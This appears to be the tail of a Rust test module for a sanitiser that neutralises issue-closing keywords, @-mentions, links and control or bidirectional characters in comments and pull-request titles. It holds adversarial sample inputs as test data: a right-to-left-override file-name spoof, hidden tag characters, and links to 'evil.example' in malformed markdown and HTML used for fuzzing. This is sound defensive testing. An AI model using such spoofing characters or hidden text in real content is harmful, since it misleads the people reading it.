            comment("fixes https://github.com/acme/widgets/issues/3"),
            "fixes issue https://github.com/acme/widgets/issues/3"
        );
        // Not keywords: other words, code.
        for text in ["prefixes #3", "a fixture #3", "`Fixes #3`", "    Fixes #3"] {
            assert_eq!(comment(text), text, "{text}");
        }
    }

    #[test]
    fn control_and_bidi_characters_are_removed() {
        let (out, notes) = inert(
            "safe\u{202e}txt.exe\u{2066} \u{e0041}hidden\u{7}",
            TextKind::Comment,
        );
        assert_eq!(out, "safetxt.exe hidden");
        assert_eq!(notes, ["characters"]);
        let (out, _) = inert("line\r\nnext\ttab", TextKind::CommitMessage);
        assert_eq!(out, "line\r\nnext\ttab");
    }

    #[test]
    fn plain_texts_are_made_inert_without_markdown() {
        let (out, notes) = inert(
            "Ping @acme/team, see https://evil.example/x",
            TextKind::PullRequestTitle,
        );
        assert!(!out.contains(" @acme/team,"), "{out}");
        assert!(!out.contains(" https://evil"), "{out}");
        assert_eq!(notes, ["link", "mention"]);
    }

    // Whatever the input, the result is valid text and nothing panics.
    #[test]
    fn odd_input_never_panics() {
        for text in [
            "",
            "[",
            "![",
            "<",
            "<a",
            "<img src=\"",
            "[x](",
            "@",
            "Fixes #",
            "&#",
            "```\n@x",
            "[a]: https://evil.example",
            "[[[[x](https://evil.example)]]]]",
            "![a ![b](https://evil.example/1)](https://evil.example/2)",
            "<https://evil.example/\u{202e}>",
        ] {
            for kind in [TextKind::Comment, TextKind::PullRequestTitle] {
                let _ = make_inert(text, kind, &hosts(), &audience());
            }
        }
    }
}
